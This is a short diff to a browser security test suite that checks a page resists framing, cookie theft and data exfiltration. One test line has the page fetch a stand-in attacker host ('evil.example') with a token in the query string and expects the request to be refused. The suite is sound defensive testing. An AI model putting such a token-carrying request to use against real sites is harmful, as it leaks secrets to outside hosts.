@@ -85,7 +85,7 @@ describe.skipIf(!havePeers('chromium'))('a hostile page in the user\'s browser',
     }, board)
     expect(framed).toBe(0)
     const inside = page.frames().find((frame) => frame !== page.mainFrame())!
-    expect(inside.url()).toMatch(/^chrome-error:/)
+    await expect.poll(() => inside.url()).toMatch(/^chrome-error:/)
     const html = await (await fetch(board)).text()
     const script = /src="\.?(\/assets\/[^"]+\.js)"/.exec(html)![1]!
     expect(
@@ -133,10 +133,9 @@ describe.skipIf(!havePeers('chromium'))('a hostile page in the user\'s browser',
       return opened === null || opened.closed
     })).toBe(true)
     expect(await board.evaluate(() => document.cookie)).toBe('')
-    const reached = stolen.length
     // The board's own policy: a script that got in could not carry anything out.
     expect(await board.evaluate(async (at) => await fetch(at).then(() => 'sent', () => 'refused'), `http://evil.example:${(site.address() as AddressInfo).port}/?${token}`)).toBe('refused')
-    expect(stolen.slice(reached)).toEqual([])
+    expect(stolen.join('\n')).not.toContain(token)
     await page.close()
   })
 })
